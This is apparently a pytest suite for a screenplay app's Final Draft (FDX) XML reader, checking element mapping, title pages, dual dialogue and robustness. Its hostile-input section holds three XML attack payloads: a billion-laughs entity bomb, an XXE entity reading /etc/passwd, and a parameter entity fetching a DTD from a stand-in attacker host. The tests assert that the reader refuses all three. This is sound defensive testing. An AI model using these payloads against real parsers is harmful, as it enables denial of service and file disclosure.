"""The Final Draft reader: real files from Final Draft and Fade In, the mapping, hostile XML."""

import time
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callboard.scripts.errors import ScriptError
from callboard.scripts.fdx import read_fdx
from callboard.scripts.fountain import decode_script_bytes, read_fountain
from callboard.scripts.screenplay import Element, Kind

CASES = Path(__file__).parent / "data" / "screenplay-tools"


def fdx(body: str, *, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no" ?>\n'
        f'<FinalDraft DocumentType="Script" Template="No" Version="5">\n'
        f"<Content>{body}</Content>{extra}</FinalDraft>"
    ).encode()


def para(kind: str, text: str, **attributes: str) -> str:
    attrs = "".join(f' {name}="{value}"' for name, value in attributes.items())
    return f'<Paragraph Type="{kind}"{attrs}><Text>{escape(text)}</Text></Paragraph>'


def rows(elements: list[Element]) -> list[tuple[Kind, str, str | None, bool]]:
    return [(e.kind, " ".join(e.text.split()), e.scene_number, e.dual) for e in elements]


# --- Real files ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["TestFDX-FD", "TestFDX-FI"])
def test_an_fdx_file_gives_the_same_elements_as_its_fountain_equivalent(name):
    from_fdx = read_fdx((CASES / f"{name}.fdx").read_bytes())
    from_fountain = read_fountain(decode_script_bytes((CASES / f"{name}.fountain").read_bytes()))
    assert rows(from_fdx.elements) == rows(from_fountain.elements)
    assert [e.scene_number for e in from_fdx.elements if e.kind == Kind.SCENE_HEADING] == ["1", "2"]


@pytest.mark.parametrize("name", ["TestFDX-FD", "TestFDX-FI"])
def test_the_fdx_title_page_gives_title_author_and_copyright(name):
    title_page = read_fdx((CASES / f"{name}.fdx").read_bytes()).title_page
    from_fountain = read_fountain(
        (CASES / "TestFDX-FI.fountain").read_text(encoding="utf-8")
    ).title_page
    for key in ("title", "author", "copyright"):
        assert title_page[key] == from_fountain[key]
    assert title_page["credit"] == "Written by"
    assert title_page["notes"] == "Draft\ninformation\nContact\ninformation"


def test_paragraphs_nested_in_scene_properties_and_headers_are_not_script():
    elements = read_fdx((CASES / "TestFDX-FD.fdx").read_bytes()).elements
    assert len(elements) == 16
    assert "." not in [e.text for e in elements]  # the page-number header paragraph


# --- Mapping ---------------------------------------------------------------------------------


def test_paragraph_types_map_to_element_kinds():
    body = "".join(
        [
            para("Scene Heading", "INT. HOUSE - DAY", Number="12A"),
            para("Action", "Bob sits."),
            para("Character", "BOB (V.O.)"),
            para("Parenthetical", "(quietly)"),
            para("Dialogue", "Hello."),
            para("Transition", "CUT TO:"),
            para("Shot", "CLOSE ON THE KEYS"),
            para("General", "General text."),
            para("Cast List", "BOB"),
            para("Something New", "Unknown type."),
            para("Lyrics", "La la la."),
            "<Paragraph><Text>No type at all.</Text></Paragraph>",
        ]
    )
    assert rows(read_fdx(fdx(body)).elements) == [
        (Kind.SCENE_HEADING, "INT. HOUSE - DAY", "12A", False),
        (Kind.ACTION, "Bob sits.", None, False),
        (Kind.CHARACTER, "BOB (V.O.)", None, False),
        (Kind.PARENTHETICAL, "(quietly)", None, False),
        (Kind.DIALOGUE, "Hello.", None, False),
        (Kind.TRANSITION, "CUT TO:", None, False),
        (Kind.ACTION, "CLOSE ON THE KEYS", None, False),
        (Kind.ACTION, "General text.", None, False),
        (Kind.ACTION, "BOB", None, False),
        (Kind.ACTION, "Unknown type.", None, False),
        (Kind.LYRIC, "La la la.", None, False),
        (Kind.ACTION, "No type at all.", None, False),
    ]


def test_text_runs_are_joined_without_their_styles_and_line_breaks_kept():
    body = (
        '<Paragraph Type="Action"><Text>John enters, </Text><Text Style="Italic">soaked</Text>'
        '<Text>. He drops his </Text><Text Style="Bold+Underline">keys</Text><Text>.\nThen:</Text>'
        "<ScriptNote><Paragraph><Text>A note, not script.</Text></Paragraph></ScriptNote>"
        "</Paragraph>"
    )
    assert read_fdx(fdx(body)).elements == [
        Element(Kind.ACTION, "John enters, soaked. He drops his keys.\nThen:")
    ]


def test_all_caps_styles_are_applied_as_final_draft_shows_them():
    settings_xml = (
        '<ElementSettings Type="Scene Heading"><FontSpec Style="AllCaps"/>'
        '<ParagraphSpec Alignment="Left" StartsNewPage="No"/></ElementSettings>'
    )
    body = para("Scene Heading", "int. kitchen - night") + (
        '<Paragraph Type="Action"><Text>He says </Text>'
        '<Text Style="AllCaps">hello</Text></Paragraph>'
    )
    assert rows(read_fdx(fdx(body, extra=settings_xml)).elements) == [
        (Kind.SCENE_HEADING, "INT. KITCHEN - NIGHT", None, False),
        (Kind.ACTION, "He says HELLO", None, False),
    ]


@pytest.mark.parametrize("inside_a_paragraph", [True, False])
def test_dual_dialogue_marks_the_second_character(inside_a_paragraph):
    group = (
        "<DualDialogue>"
        + para("Character", "MARY")
        + para("Dialogue", "Told you.")
        + para("Character", "JOHN")
        + para("Parenthetical", "(sighs)")
        + para("Dialogue", "You did.")
        + "</DualDialogue>"
    )
    if inside_a_paragraph:
        group = f"<Paragraph>{group}</Paragraph>"
    body = para("Character", "JOHN") + para("Dialogue", "It's raining.") + group
    assert [(e.text, e.dual) for e in read_fdx(fdx(body)).elements if e.kind == Kind.CHARACTER] == [
        ("JOHN", False),
        ("MARY", False),
        ("JOHN", True),
    ]


def test_starts_new_page_gives_a_page_break_before_the_paragraph_but_not_at_the_start():
    settings_xml = (
        '<ElementSettings Type="New Act"><FontSpec Style="Bold+AllCaps"/>'
        '<ParagraphSpec Alignment="Center" StartsNewPage="Yes"/></ElementSettings>'
    )
    body = (
        para("Scene Heading", "INT. A - DAY", StartsNewPage="Yes")
        + para("Action", "One.")
        + para("Scene Heading", "EXT. B - NIGHT", StartsNewPage="Yes")
        + para("Action", "Two.", StartsNewPage="No")
        + para("New Act", "act two")
        + para("New Act", "no break here", StartsNewPage="No")
    )
    assert rows(read_fdx(fdx(body, extra=settings_xml)).elements) == [
        (Kind.SCENE_HEADING, "INT. A - DAY", None, False),
        (Kind.ACTION, "One.", None, False),
        (Kind.PAGE_BREAK, "", None, False),
        (Kind.SCENE_HEADING, "EXT. B - NIGHT", None, False),
        (Kind.ACTION, "Two.", None, False),
        (Kind.PAGE_BREAK, "", None, False),
        (Kind.CENTERED, "ACT TWO", None, False),
        (Kind.CENTERED, "NO BREAK HERE", None, False),
    ]


def test_centre_aligned_action_is_centred_text():
    body = '<Paragraph Type="Action" Alignment="Center"><Text>THE END</Text></Paragraph>'
    assert read_fdx(fdx(body)).elements == [Element(Kind.CENTERED, "THE END")]


@pytest.mark.parametrize(
    "heading",
    [
        para("Scene Heading", "OMITTED", Number="7"),
        para("Scene Heading", "omitted.", Number="7"),
        '<Paragraph Type="Scene Heading" Number="7" Omitted="Yes">'
        "<Text>INT. GONE - DAY</Text></Paragraph>",
        '<Paragraph Type="Scene Heading" Number="7"><SceneProperties Omitted="Yes"/></Paragraph>',
    ],
)
def test_an_omitted_scene_is_a_heading_reading_omitted_with_its_number(heading):
    elements = read_fdx(
        fdx(heading + para("Scene Heading", "INT. NEXT - DAY", Number="8"))
    ).elements
    assert [(e.kind, e.text, e.scene_number) for e in elements] == [
        (Kind.SCENE_HEADING, "OMITTED", "7"),
        (Kind.SCENE_HEADING, "INT. NEXT - DAY", "8"),
    ]


def test_a_scene_summary_becomes_its_synopsis():
    heading = (
        '<Paragraph Type="Scene Heading" Number="1">'
        '<SceneProperties Length="3/8" Page="1" Title="">'
        "<Summary><Paragraph><Text>Bob meets Mary.</Text></Paragraph></Summary></SceneProperties>"
        "<Text>INT. CAFE - DAY</Text></Paragraph>"
    )
    assert rows(read_fdx(fdx(heading + para("Action", "They sit."))).elements) == [
        (Kind.SCENE_HEADING, "INT. CAFE - DAY", "1", False),
        (Kind.SYNOPSIS, "Bob meets Mary.", None, False),
        (Kind.ACTION, "They sit.", None, False),
    ]


def test_hidden_outline_elements_are_structure_and_empty_paragraphs_are_skipped():
    settings_xml = "".join(
        f'<ElementSettings Type="{kind}"><FontSpec Style="Italic+HiddenText"/>'
        "<ParagraphSpec/></ElementSettings>"
        for kind in ("Outline 1", "Outline Body", "Secret")
    )
    body = (
        para("Outline 1", "ACT ONE")
        + para("Outline Body", "Things happen.")
        + para("Secret", "hidden")
        + '<Paragraph Type="Action"/>'
        + para("Action", "   ")
        + para("Action", "Visible.")
    )
    assert rows(read_fdx(fdx(body, extra=settings_xml)).elements) == [
        (Kind.SECTION, "ACT ONE", None, False),
        (Kind.SYNOPSIS, "Things happen.", None, False),
        (Kind.ACTION, "Visible.", None, False),
    ]


def test_a_title_page_credit_in_one_paragraph_gives_credit_and_author():
    title = (
        "<TitlePage><Content>"
        + "".join(
            f"<Paragraph><Text>{escape(t)}</Text></Paragraph>"
            for t in [
                "THE LONG NIGHT",
                "Written by Jane Doe",
                "Story by Sam Roe",
                "© 2026 Pictures LLC",
                "Draft 3",
            ]
        )
        + "</Content></TitlePage>"
    )
    assert read_fdx(fdx(para("Action", "x"), extra=title)).title_page == {
        "title": "THE LONG NIGHT",
        "credit": "Written by",
        "author": "Jane Doe",
        "source": "Story by Sam Roe",
        "copyright": "© 2026 Pictures LLC",
        "notes": "Draft 3",
    }


# --- Hostile and broken input ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<FinalDraft><Content><Paragraph Type="Action"><Text>&lol9;</Text></Paragraph></Content>\
</FinalDraft>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE FinalDraft [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<FinalDraft><Content><Paragraph Type="Action"><Text>&xxe;</Text></Paragraph></Content>\
</FinalDraft>"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE FinalDraft [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<FinalDraft><Content><Paragraph Type="Action"><Text>x</Text></Paragraph></Content></FinalDraft>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_PARAMETER_ENTITY])
def test_xml_entities_are_refused_with_a_script_error(payload):
    with pytest.raises(ScriptError, match="entities"):
        read_fdx(payload)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b"  \n ", "empty"),
        (b"INT. HOUSE - DAY\n\nThis is Fountain, not XML.", "broken"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "broken"),
        (b"<html><body>Not a script</body></html>", "not a Final Draft"),
        (b"<FinalDraft><TitlePage/></FinalDraft>", "no script content"),
        (
            b"<FinalDraft><Content><Paragraph Type='Action'/></Content></FinalDraft>",
            "no script in it",
        ),
        ((CASES / "TestFDX-FD.fdx").read_bytes()[:5000], "broken"),
    ],
)
def test_files_that_are_not_final_draft_scripts_raise_a_script_error(data, message):
    with pytest.raises(ScriptError, match=message):
        read_fdx(data)


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=300), st.text(max_size=300).map(lambda t: f"<FinalDraft>{t}".encode())
    )
)
def test_any_bytes_give_a_screenplay_or_a_script_error(data):
    try:
        screenplay = read_fdx(data)
    except ScriptError:
        return
    assert screenplay.elements


# --- Round trip: elements written as FDX read back the same ----------------------------------

_TYPES = {
    Kind.SCENE_HEADING: "Scene Heading",
    Kind.ACTION: "Action",
    Kind.CHARACTER: "Character",
    Kind.PARENTHETICAL: "Parenthetical",
    Kind.DIALOGUE: "Dialogue",
    Kind.TRANSITION: "Transition",
}
_text = (
    st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), min_size=1, max_size=40)
    .map(lambda t: " ".join(t.split()))
    .filter(lambda t: t and t.upper() not in ("OMITTED", "OMITTED."))
)
_element = st.builds(
    lambda kind, text, number: Element(
        kind, text, scene_number=number if kind == Kind.SCENE_HEADING else None
    ),
    st.sampled_from(list(_TYPES)),
    _text,
    st.one_of(st.none(), st.from_regex(r"[0-9]{1,3}[A-Z]?", fullmatch=True)),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_element, min_size=1, max_size=20))
def test_elements_written_as_fdx_read_back_the_same(elements):
    body = "".join(
        para(_TYPES[e.kind], e.text, **({"Number": e.scene_number} if e.scene_number else {}))
        for e in elements
    )
    assert read_fdx(fdx(body)).elements == elements


def test_deeply_nested_or_huge_xml_is_read_or_refused_quickly():
    deep = (
        b"<FinalDraft><Content>"
        + b"<Paragraph>" * 50_000
        + b"</Paragraph>" * 50_000
        + b"</Content></FinalDraft>"
    )
    runs = "".join(f"<Text>{i} </Text>" for i in range(50_000))
    wide = fdx(f'<Paragraph Type="Action">{runs}</Paragraph>')
    started = time.perf_counter()
    with pytest.raises(ScriptError, match="no script in it"):
        read_fdx(deep)
    assert read_fdx(wide).elements[0].text.startswith("0 1 2 ")
    assert time.perf_counter() - started < 15.0  # only a blow-up; `make bench` holds speed
